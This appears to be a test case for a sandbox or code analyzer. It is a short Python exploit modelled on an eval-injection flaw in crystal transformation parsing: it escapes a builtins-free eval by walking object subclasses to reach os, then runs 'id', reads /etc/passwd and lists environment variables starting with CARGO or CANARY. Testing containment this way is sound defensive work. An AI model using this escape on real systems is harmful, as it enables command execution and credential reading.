# /// case
# technique = "string-built-names"
# analysis = ["code-in-text", "forbidden-function"]
# without_analysis = "contained"
# reference = "CVE-2024-23346"
# ///
# A crystal's transformation, evaluated without builtins.
transformation = "a, -b, (lambda: [c for c in ().__class__.__mro__[-1].__subclasses__() if c.__name__ == '_wrap_close'][0])().__init__.__globals__"
parts = eval(transformation, {"__builtins__": None, "a": 1, "b": 2})
found = parts[-1]["sys"].modules["os"]

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
